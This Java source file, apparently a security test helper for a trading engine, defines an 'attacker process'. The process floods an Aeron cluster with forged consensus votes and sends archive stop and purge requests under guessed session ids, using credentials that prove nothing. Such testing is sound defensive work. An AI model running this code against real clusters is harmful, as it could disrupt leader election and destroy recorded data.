// Copyright 2026 The Bourse Authors
// SPDX-License-Identifier: Apache-2.0

package io.bourse.engine.host.cluster;

import io.aeron.Aeron;
import io.aeron.ExclusivePublication;
import io.aeron.Subscription;
import io.aeron.archive.client.ArchiveProxy;
import io.aeron.archive.codecs.ChallengeDecoder;
import io.aeron.archive.codecs.MessageHeaderDecoder;
import io.aeron.cluster.codecs.MessageHeaderEncoder;
import io.aeron.cluster.codecs.RequestVoteEncoder;
import io.aeron.driver.MediaDriver;
import io.aeron.driver.ThreadingMode;
import io.aeron.security.CredentialsSupplier;
import org.agrona.concurrent.SystemNanoClock;
import org.agrona.concurrent.UnsafeBuffer;
import org.agrona.concurrent.YieldingIdleStrategy;

import java.nio.charset.StandardCharsets;
import java.util.concurrent.TimeUnit;
import java.util.concurrent.locks.LockSupport;
import java.util.function.BooleanSupplier;

/**
 * What another user of the machine can try, with nothing but Aeron: forged votes, and requests in the name of control
 * sessions that it does not have.
 */
final class AttackerProcess
{
    static final int CONSENSUS_STREAM_ID = 108;
    private static final int NEIGHBOURS = 64;
    private static final int RECORDINGS = 4;
    private static final long PATIENCE_NS = TimeUnit.SECONDS.toNanos(5);

    private AttackerProcess()
    {
    }

    /** Driver directory, consensus endpoint, archive endpoint, stream of the archive. */
    public static void main(final String[] args)
    {
        try (MediaDriver driver = MediaDriver.launch(new MediaDriver.Context()
            .aeronDirectoryName(args[0])
            .dirDeleteOnStart(true)
            .dirDeleteOnShutdown(true)
            .threadingMode(ThreadingMode.SHARED)
            .errorHandler(ex -> System.out.println("driver " + ex.getMessage())));
            Aeron aeron = Aeron.connect(new Aeron.Context().aeronDirectoryName(driver.aeronDirectoryName())))
        {
            System.out.println("votes " + vote(aeron, args[1]));
            System.out.println("requests " + stopRecordings(aeron, args[2], Integer.parseInt(args[3])));
        }
    }

    private static int vote(final Aeron aeron, final String endpoint)
    {
        int sent = 0;
        try (ExclusivePublication publication =
            aeron.addExclusivePublication("aeron:udp?term-length=64k|endpoint=" + endpoint, CONSENSUS_STREAM_ID))
        {
            if (!await(publication::isConnected))
            {
                return 0;
            }
            final UnsafeBuffer vote = new UnsafeBuffer(new byte[256]);
            final RequestVoteEncoder encoder = new RequestVoteEncoder()
                .wrapAndApplyHeader(vote, 0, new MessageHeaderEncoder())
                .logLeadershipTermId(1_000)
                .logPosition(1L << 40)
                .candidateTermId(1_001)
                .candidateMemberId(0);
            for (int i = 0; i < NEIGHBOURS; i++)
            {
                sent += publication.offer(
                    vote, 0, MessageHeaderEncoder.ENCODED_LENGTH + encoder.encodedLength()) > 0 ? 1 : 0;
            }
        }
        return sent;
    }

    private static int stopRecordings(final Aeron aeron, final String endpoint, final int streamId)
    {
        final long[] session = {Aeron.NULL_VALUE};
        final ChallengeDecoder challenge = new ChallengeDecoder();
        final MessageHeaderDecoder header = new MessageHeaderDecoder();
        int sent = 0;
        try (Subscription answers = aeron.addSubscription("aeron:udp?endpoint=127.0.0.1:0", 77);
            ExclusivePublication publication =
                aeron.addExclusivePublication("aeron:udp?term-length=64k|endpoint=" + endpoint, streamId))
        {
            if (!await(() -> publication.isConnected() && null != answers.tryResolveChannelEndpointPort()))
            {
                return 0;
            }
            final ArchiveProxy proxy = new ArchiveProxy(publication, YieldingIdleStrategy.INSTANCE,
                SystemNanoClock.INSTANCE, PATIENCE_NS, 3, new Name());
            proxy.connect("aeron:udp?endpoint=" + answers.resolvedEndpoint(), 77, 1);
            await(() ->
            {
                answers.poll((buffer, offset, length, frame) ->
                {
                    header.wrap(buffer, offset);
                    if (ChallengeDecoder.TEMPLATE_ID == header.templateId())
                    {
                        session[0] = challenge.wrapAndApplyHeader(buffer, offset, header).controlSessionId();
                    }
                }, 10);
                return Aeron.NULL_VALUE != session[0];
            });
            for (int i = 1; i <= NEIGHBOURS && Aeron.NULL_VALUE != session[0]; i++)
            {
                for (int recordingId = 0; recordingId < RECORDINGS; recordingId++)
                {
                    sent += proxy.stopRecordingByIdentity(recordingId, 1_000 + i, session[0] - i) ? 1 : 0;
                    sent += proxy.purgeRecording(recordingId, 2_000 + i, session[0] - i) ? 1 : 0;
                }
            }
            LockSupport.parkNanos(TimeUnit.SECONDS.toNanos(1));
        }
        return sent;
    }

    /** Names a principal; there is nothing to prove it with. */
    private static final class Name implements CredentialsSupplier
    {
        @Override
        public byte[] encodedCredentials()
        {
            return "reader".getBytes(StandardCharsets.US_ASCII);
        }

        @Override
        public byte[] onChallenge(final byte[] encodedChallenge)
        {
            return encodedChallenge;
        }
    }

    private static boolean await(final BooleanSupplier condition)
    {
        final long deadlineNs = System.nanoTime() + PATIENCE_NS;
        while (!condition.getAsBoolean())
        {
            if (System.nanoTime() - deadlineNs > 0)
            {
                return false;
            }
            LockSupport.parkNanos(100_000);
        }
        return true;
    }
}
